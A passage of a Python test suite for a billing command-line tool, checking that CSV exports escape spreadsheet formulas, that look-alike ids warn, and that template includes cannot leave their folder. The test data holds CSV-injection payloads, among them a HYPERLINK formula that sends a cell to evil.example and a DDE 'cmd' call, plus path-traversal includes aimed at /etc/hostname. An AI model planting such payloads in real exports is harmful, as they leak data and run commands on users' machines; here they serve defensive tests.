    frame = pl.DataFrame({"c": chars}, schema={"c": pl.String}).with_columns(
        pl.col("c").str.contains(_SKIPPED_BY_UNICODE).alias("skipped"),
        pl.col("c").is_in(list(_FORMULA_CHARACTERS)).alias("formula"),
        (spreadsheet_safe_expr(pl.col("c") + "=") == "'" + pl.col("c") + "=").alias("eq"),
        (spreadsheet_safe_expr(pl.col("c") + "x") == "'" + pl.col("c") + "x").alias("x"),
    )
    # 25 Unicode spaces and line breaks, U+001C-U+001F, 4,174 invisible characters
    assert frame["skipped"].sum() == 25 + 4 + 4_174
    assert (frame["eq"] == (frame["skipped"] | frame["formula"])).all()
    assert (frame["x"] == (frame["formula"] | frame["c"].is_in(["\t", "\r"]))).all()
    assert [spreadsheet_safe(c + "=") != c + "=" for c in chars] == frame["eq"].to_list()
    assert [spreadsheet_safe(c + "x") != c + "x" for c in chars] == frame["x"].to_list()


_SKIPPED = " \t\n\r\x0b\x1c\x85\u00a0\u3000\u200b\ufeff\u00ad\U000e0041"
_CELL_CHARS = st.sampled_from(
    [*_SKIPPED, *"=+-@\uff1d\uff0b\uff0d\uff20\ufe66", *"\u2212\u207aaZ05.'\"|\x1b\u202e"]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.none() | st.text(_CELL_CHARS, max_size=6), max_size=12))
def test_a_csv_text_cell_has_a_quote_exactly_when_it_starts_like_a_formula(
    cells: list[str | None],
) -> None:
    """Whether a text column is judged as one expression or, for a cell with a control
    character, cell by cell: a CSV cell is the text as shown (control characters as
    codes), with a ``'`` in front exactly when that starts with a tab or a carriage
    return, or its first character past spaces and invisible ones starts a formula."""
    frame = pl.DataFrame({"name": cells}, schema={"name": pl.String})
    written = [row["name"] for row in _csv(render_csv(Report("t", frame)))]
    for cell, out in zip(cells, written, strict=True):
        if cell is None:
            assert out == ""
            continue
        shown = visible(re.sub("\r(?!\n)", "<U+000D>", cell), keep="\t\n\r")
        first = shown.lstrip(_SKIPPED)[:1]
        formula = shown[:1] in ("\t", "\r") or first in set("=+-@\uff1d\uff0b\uff0d\uff20\ufe66")
        assert out == ("'" + shown if formula else shown)


def test_csv_escapes_text_cells_only() -> None:
    frame = pl.DataFrame(
        {
            "name": ["=1+1", "Acme"],
            "note": ["-x", None],
            "amount": [Decimal("-12.50"), Decimal("3.00")],
            "count": [-3, 4],
        }
    )
    report = Report(
        "t", frame, kinds={"amount": ColumnKind.SIGNED_MONEY, "count": ColumnKind.COUNT}
    )
    # Text starting like a formula gets a '; numbers (even negative) stay numbers.
    assert render_csv(report) == "name,note,amount,count\n'=1+1,'-x,-12.50,-3\nAcme,,3.00,4\n"
    assert (
        render_csv(report, raw=True) == "name,note,amount,count\n=1+1,-x,-12.50,-3\nAcme,,3.00,4\n"
    )


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_escapes_formulas_past_spaces_and_full_width_in_text_columns_only() -> None:
    texts = [" =1", "\u200b+1", "\uff1d1", "\u3000@x", "-5", "a=b", " plain", "\x1b=1", None]
    frame = pl.DataFrame(
        {
            "name": texts,
            "segment": pl.Series(["\uff20x", "x", "x", "x", "x", "x", "x", "x", "x"]).cast(
                pl.Enum(["\uff20x", "x"])
            ),
            "amount": [Decimal("-5")] * 9,
            "count": [-5] * 9,
            "plain_number": [-5] * 9,  # a whole-number column without a kind
        }
    )
    report = Report(
        "t", frame, kinds={"amount": ColumnKind.SIGNED_MONEY, "count": ColumnKind.COUNT}
    )
    written = _csv(render_csv(report))
    assert [r["name"] for r in written] == [
        "' =1",
        "'\u200b+1",
        "'\uff1d1",
        "'\u3000@x",
        "'-5",  # a negative number held as text is text
        "a=b",
        " plain",
        "<U+001B>=1",  # the escape is shown as its code: no formula at the start
        "",
    ]
    assert [r["segment"] for r in written] == ["'\uff20x"] + ["x"] * 8
    assert {(r["amount"], r["count"], r["plain_number"]) for r in written} == {
        ("-5.00", "-5", "-5")
    }
    raw = _csv(render_csv(report, raw=True))
    assert [r["name"] for r in raw] == [*texts[:-1], ""]


EVIL_NAMES = {
    "CUST-001": '\u200b=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "CUST-002": '\uff1dHYPERLINK("http://evil.example/","Click")',
    "CUST-003": "\ufeff\u3000+cmd|' /C calc'!A0",
}
"""Customer names that start like a formula past an invisible character or in full width
(a data file's cells are trimmed, so a name cannot start with a plain space)."""


def test_report_files_escape_formulas_past_invisible_characters(tmp_path: Path, run: Run) -> None:
    contract = FILES["contracts/CTR-001.yaml"]
    files = {
        "customers.csv": "customer_id,name,country\n"
        + "".join(csv_line([cid, name, "NO"]) for cid, name in EVIL_NAMES.items()),
        **{
            f"contracts/CTR-00{n}.yaml": contract.replace("CTR-001", f"CTR-00{n}").replace(
                "CUST-001", f"CUST-00{n}"
            )
            for n in (1, 2, 3)
        },
    }
    root = build(tmp_path / "data", Case(files=files))
    out = tmp_path / "mrr.csv"
    d = ("--data", root)
    result = run("mrr", *d, "--month", "2026-03", "--by", "name", "--out", out)
    assert result.exit_code == 0, result.output
    written = _csv(out.read_text(encoding="utf-8"))
    assert {(r["name"], r["mrr"]) for r in written} == {  # 10 seats × 490 each
        ("'" + name, "4900.00") for name in EVIL_NAMES.values()
    }
    journal = tmp_path / "journal.csv"
    assert run("invoice", "issue", *d, "--period", "2026-01", "-f", "md").exit_code == 0
    assert run("invoice", "export", *d, "--out", journal).exit_code == 0
    exported = _csv(journal.read_text(encoding="utf-8"))
    assert {r["customer_id"]: r["customer_name"] for r in exported} == {
        cid: "'" + name for cid, name in EVIL_NAMES.items()
    }


def test_reports_in_csv_escape_formula_text(tmp_path: Path, run: Run) -> None:
    root = build(tmp_path / "data", Case(files={"customers.csv": EVIL_CUSTOMERS}))
    d = ("--data", root)
    mrr = _csv(run("mrr", *d, "--month", "2026-03", "--by", "name", "-f", "csv").stdout)
    assert mrr[0]["name"] == "'" + EVIL_NAME and mrr[0]["mrr"] == "4900.00"
    region = _csv(run("mrr", *d, "--month", "2026-03", "--by", "region", "-f", "csv").stdout)
    assert region[0]["region"] == "'-2+3"
    renewals = _csv(
        run("renewals", *d, "--as-of", "2026-10-01", "--within", "1y", "-f", "csv").stdout
    )
    assert renewals[0]["customer_name"] == "'" + EVIL_NAME
    risk = _csv(run("risk", *d, "--as-of", "2026-10-01", "-f", "csv").stdout)
    assert risk[0]["customer_name"] == "'" + EVIL_NAME
    assert run("invoice", "issue", *d, "--period", "2026-01", "-f", "md").exit_code == 0
    number = _csv(run("invoice", "list", *d, "-f", "csv").stdout)[0]["number"]
    credited = run("invoice", "credit", number, *d, "--reason", "x", "-f", "md")
    assert credited.exit_code == 0, credited.output
    listed = _csv(run("invoice", "list", *d, "-f", "csv").stdout)
    assert [r["customer_name"] for r in listed] == ["'" + EVIL_NAME] * 2
    # 10 seats × 490 × 12 + 15,000 onboarding = 73,800 net; the credit note is its negative.
    assert [r["net"] for r in listed] == ["73800.00", "-73800.00"]
    journal = _csv(run("invoice", "export", *d, "-f", "csv").stdout)
    assert [(r["customer_name"], r["gross"]) for r in journal] == [
        ("'" + EVIL_NAME, "92250.00"),
        ("'" + EVIL_NAME, "-92250.00"),
    ]
    raw = _csv(run("--raw-csv", "invoice", "list", *d, "-f", "csv").stdout)
    assert raw[0]["customer_name"] == EVIL_NAME


# --- ids that look the same ---------------------------------------------------------------


def test_ids_that_differ_only_in_case_or_invisible_characters_are_warnings(
    tmp_path: Path, run: Run
) -> None:
    zwsp = "\u200b"
    customers = (
        "customer_id,name\n"
        "CUST-001,Nordlys Analyse AS\n"
        "cust-001,Nordlys again\n"  # case only
        f"CUST{zwsp}-001,Nordlys once more\n"  # a zero-width space
        "CUST-002,Another AS\n"  # a different id: no warning
    )
    root = build(tmp_path / "data", Case(files={"customers.csv": customers}))
    result = run("validate", "--data", root)
    assert result.exit_code == 0, result.output
    where = f"{root}/customers.csv"
    assert result.stdout.splitlines() == [
        f"warning: {where}:3: customer_id: customer_id 'cust-001' differs from 'CUST-001' "
        f"(at {where}:2) only in upper/lower case, invisible characters or Unicode form; write "
        "one id the same way everywhere",
        f"warning: {where}:4: customer_id: 'CUST<U+200B>-001' contains an invisible "
        "character; retype the id",
        f"warning: {where}:4: customer_id: customer_id 'CUST<U+200B>-001' differs from "
        f"'CUST-001' (at {where}:2) only in upper/lower case, invisible characters or Unicode "
        "form; write one id the same way everywhere",
    ]


def test_ids_that_differ_only_in_unicode_form_are_warnings(tmp_path: Path, run: Run) -> None:
    # 'ÅS-1' typed as one character (U+00C5, NFC, as most editors write it) and as 'A' and
    # a combining ring (U+030A, NFD, as macOS file names and some exports write it) look
    # the same on every screen; so do a full-width 'Ｋ' (U+FF21 block) and 'K', and the
    # full-width digit '１' and '1'. Each pair is two ids to revcli: a warning on the
    # second spelling in file order, naming the first. 'ÅS-2' has no twin: no warning.
    composed, decomposed = "\u00c5S-1", "A\u030aS-1"
    customers = (
        "customer_id,name\n"
        f"{composed},Ås Regnskap AS\n"
        f"{decomposed},Ås Regnskap again\n"
        "\u00c5S-2,Another AS\n"
    )
    contracts = (
        "contract_id,customer_id,start_date\n"
        f"K-1,{composed},2026-01-01\n"
        f"\uff2b-1,{decomposed},2026-01-01\n"
    )
    lines = (
        "contract_id,line_id,product,unit_price\n"
        "K-1,1,P,100\n"
        "K-1,\uff11,P,200\n"  # the full-width one: a twin of line '1' of K-1
        "\uff2b-1,1,P,50\n"  # line '1' of another contract: no twin of K-1's
    )
    files = {"customers.csv": customers, "contracts.csv": contracts}
    files["contract_lines.csv"] = lines
    root = build(tmp_path / "data", Case(files=files))
    (root / "contracts" / "CTR-001.yaml").unlink()  # its customer is not in this file
    result = run("validate", "--data", root)
    assert result.exit_code == 0, result.output
    tail = "only in upper/lower case, invisible characters or Unicode form; write one id the "
    tail += "same way everywhere"
    assert result.stdout.splitlines() == [
        f"warning: {root}/contract_lines.csv:3: line_id: line_id '\uff11' differs from '1' "
        f"(at {root}/contract_lines.csv:2) {tail}",
        f"warning: {root}/contracts.csv:3: contract_id: contract_id '\uff2b-1' differs from "
        f"'K-1' (at {root}/contracts.csv:2) {tail}",
        f"warning: {root}/customers.csv:3: customer_id: customer_id '{decomposed}' differs "
        f"from '{composed}' (at {root}/customers.csv:2) {tail}",
    ]
    # They stay two customers: each has its own MRR (100 + 200 and 50 a month).
    mrr = _csv(run("mrr", "--data", root, "--month", "2026-01", "--by", "customer_id").stdout)
    assert [(r["customer_id"], r["mrr"]) for r in mrr] == [
        (decomposed, "50.00"),
        (composed, "300.00"),
        ("\u00c5S-2", "0.00"),
    ]


def test_line_ids_are_compared_within_their_contract_only() -> None:
    frame = pl.DataFrame(
        {
            "contract_id": ["K-1", "K-1", "K-2"],
            "line_id": ["a", "A", "a"],
            "_source": ["c.csv"] * 3,
            "_line": [2, 3, 4],
        }
    )
    # K-1 has 'a' and 'A' (a warning on line 3); K-2's 'a' is another contract's line.
    issues = lookalike_ids(frame, "line_id", "line_id", scope=["contract_id"])
    assert [(i.line, i.message.split(" (")[0]) for i in issues] == [
        (3, "line_id 'A' differs from 'a'")
    ]


def test_ids_in_upper_case_or_alike_only_across_contracts_are_no_lookalikes() -> None:
    frame = pl.DataFrame(
        {
            "contract_id": ["K-1", "K-1", "K-2", "K-3"],
            "line_id": ["A", "B", "a", "C"],
            "_source": ["c.csv"] * 4,
            "_line": [2, 3, 4, 5],
        }
    )
    # 'A' of K-1 and 'a' of K-2 are lines of two contracts: no warning.
    assert lookalike_ids(frame, "line_id", "line_id", scope=["contract_id"]) == []
    # Upper-case ids that all differ once lower-cased: no warning.
    assert lookalike_ids(frame, "contract_id", "contract_id") == []
    # 'k-2' on line 6 is 'K-2' (line 4) in lower case: a warning naming the first.
    more = pl.concat(
        [frame, frame.head(1).with_columns(contract_id=pl.lit("k-2"), _line=pl.lit(6, pl.Int64))]
    )
    assert [str(i) for i in lookalike_ids(more, "contract_id", "contract_id")] == [
        "warning: c.csv:6: contract_id: contract_id 'k-2' differs from 'K-2' (at c.csv:4) "
        "only in upper/lower case, invisible characters or Unicode form; write one id the "
        "same way everywhere"
    ]


def test_deeply_nested_json_to_import_is_an_error_not_a_crash(tmp_path: Path, run: Run) -> None:
    root = build(tmp_path / "data", Case())
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    result = run("import", "stripe", deep, "--data", root)
    assert result.exit_code == 1
    assert f"{deep}: JSON nested too deeply to read" in result.stderr


def test_an_include_cannot_reach_outside_the_templates_folder(tmp_path: Path) -> None:
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / "evil.liquid").symlink_to("/etc/hostname")
    main = folder / "main.liquid"
    for include in ("'evil.liquid'", "'../../../../etc/hostname'"):
        main.write_text(f"{{% include {include} %}}", encoding="utf-8")
        with pytest.raises(TemplateError) as caught:
            load_template(main, autoescape=False).render({})
        assert str(caught.value).startswith(f"{main}:1:")
        assert "template not found" in str(caught.value)


def test_a_template_symlinked_into_another_folder_loads_with_its_includes(
    tmp_path: Path,
) -> None:
    """docs/rules.md: a symlink to a template is fine. It is loaded from the folder it
    really is in, and its includes resolve there; includes still cannot leave it."""
    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / "invoice.liquid").write_text(
        "Invoice {{ n }}: {% include 'footer.liquid' %}", encoding="utf-8"
    )
    (shared / "footer.liquid").write_text("thanks", encoding="utf-8")
    folder = tmp_path / "templates"
    folder.mkdir()
    link = folder / "invoice.liquid"
    link.symlink_to("../shared/invoice.liquid")
    assert load_template(link, autoescape=False).render({"n": 7}) == "Invoice 7: thanks"
    (shared / "invoice.liquid").write_text("{% include '../templates/x' %}", encoding="utf-8")
    with pytest.raises(TemplateError, match="template not found"):
        load_template(link, autoescape=False).render({})


def test_surrogate_escapes_in_yaml_join_or_are_named() -> None:
    # JSON writes an emoji as two \u escapes: YAML reads them as two halves of a character.
    # A pair is joined into the character; a lone half is an error at its value's line
    # (it made every command fail with an internal error).
    from revcli.data.yamlio import LONE_SURROGATE, load_records

    records, issues = load_records(
        'contracts:\n  - contract_id: "KC\\ud83d\\ude001"\n    customer_id: "C\\udcff"\n',
        "c.yaml",
        "contracts",
        frozenset(),
    )
    assert records[0].values["contract_id"] == "KC\U0001f6001"
    assert [(i.line, i.column, i.message) for i in issues] == [(3, "customer_id", LONE_SURROGATE)]


def test_surrogate_escapes_in_settings_join_or_are_named() -> None:
    from revcli.data.tree import load_tree
    from revcli.data.yamlio import LONE_SURROGATE

    tree, issues = load_tree('company:\n  name: "Fjord\\ud83d\\ude00 AS"\n', "revcli.yaml")
    assert issues == []
    company = tree["company"]
    assert isinstance(company, dict)
    name = company["name"]
    assert not isinstance(name, dict | list)
    assert name.value == "Fjord\U0001f600 AS"
    tree, issues = load_tree('company:\n  name: "Fjord\\udcff"\n', "revcli.yaml")
    assert [(i.line, i.message) for i in issues] == [(2, LONE_SURROGATE)]
